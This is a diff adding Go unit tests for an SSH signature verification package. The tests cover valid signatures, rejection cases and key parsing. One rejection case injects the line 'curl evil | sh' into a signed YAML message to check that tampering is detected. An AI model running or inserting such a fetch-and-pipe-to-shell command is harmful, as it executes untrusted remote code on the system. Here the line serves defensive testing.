@@ -0,0 +1,98 @@
+package sshsig
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// testdata was produced with:
+//
+//	ssh-keygen -t <type> -C <type>@example -f key
+//	ssh-keygen -Y sign -n mytx-repo-config -f key message.yaml
+const testNamespace = "mytx-repo-config"
+
+func readTestdata(t *testing.T, name string) []byte {
+	t.Helper()
+	data, err := os.ReadFile(filepath.Join("testdata", name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return data
+}
+
+func loadTestKey(t *testing.T, keyType string) PublicKey {
+	t.Helper()
+	key, err := ParseAuthorizedKey(string(readTestdata(t, keyType+".pub")))
+	if err != nil {
+		t.Fatalf("ParseAuthorizedKey(%s) error = %v", keyType, err)
+	}
+	return key
+}
+
+func TestVerifyOpenSSHSignatures(t *testing.T) {
+	message := readTestdata(t, "message.yaml")
+	keys := []PublicKey{loadTestKey(t, "ed25519"), loadTestKey(t, "ecdsa"), loadTestKey(t, "rsa")}
+
+	for _, keyType := range []string{"ed25519", "ecdsa", "rsa"} {
+		t.Run(keyType, func(t *testing.T) {
+			signer, err := Verify(message, readTestdata(t, "message."+keyType+".sig"), testNamespace, keys)
+			if err != nil {
+				t.Fatalf("Verify() error = %v", err)
+			}
+			if signer.Comment != keyType+"@example" {
+				t.Fatalf("signer = %q, want %s@example", signer.Comment, keyType)
+			}
+		})
+	}
+}
+
+func TestVerifyRejects(t *testing.T) {
+	message := readTestdata(t, "message.yaml")
+	signature := readTestdata(t, "message.ed25519.sig")
+	ed25519Key := loadTestKey(t, "ed25519")
+
+	tests := []struct {
+		name      string
+		message   []byte
+		signature []byte
+		namespace string
+		keys      []PublicKey
+		wantErr   string
+	}{
+		{name: "tampered content", message: append(append([]byte(nil), message...), "  - curl evil | sh\n"...), signature: signature, namespace: testNamespace, keys: []PublicKey{ed25519Key}, wantErr: "does not match the content"},
+		{name: "unknown key", message: message, signature: signature, namespace: testNamespace, keys: []PublicKey{loadTestKey(t, "rsa")}, wantErr: "not allowed"},
+		{name: "wrong namespace", message: message, signature: signature, namespace: "git", keys: []PublicKey{ed25519Key}, wantErr: "namespace"},
+		{name: "not armored", message: message, signature: []byte("garbage"), namespace: testNamespace, keys: []PublicKey{ed25519Key}, wantErr: "armored"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := Verify(tt.message, tt.signature, tt.namespace, tt.keys); err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("Verify() error = %v, want containing %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestParseAuthorizedKey(t *testing.T) {
+	key := loadTestKey(t, "ed25519")
+	if key.Type != "ssh-ed25519" || key.Fingerprint() != "SHA256:jBcneFyzBxvCcs2CT9X0p1+YrWMwyXq5Wf776CzRt8g" {
+		t.Fatalf("key = %s %s", key.Type, key.Fingerprint())
+	}
+
+	line := strings.TrimSpace(string(readTestdata(t, "ed25519.pub")))
+	tests := map[string]string{
+		"missing blob":  "ssh-ed25519",
+		"bad base64":    "ssh-ed25519 !!!",
+		"type mismatch": "ssh-rsa " + strings.Fields(line)[1],
+		"unsupported":   "ssh-dss AAAAB3NzaC1kc3M=",
+	}
+	for name, input := range tests {
+		t.Run(name, func(t *testing.T) {
+			if _, err := ParseAuthorizedKey(input); err == nil {
+				t.Fatalf("ParseAuthorizedKey(%q) error = nil", input)
+			}
+		})
+	}
+}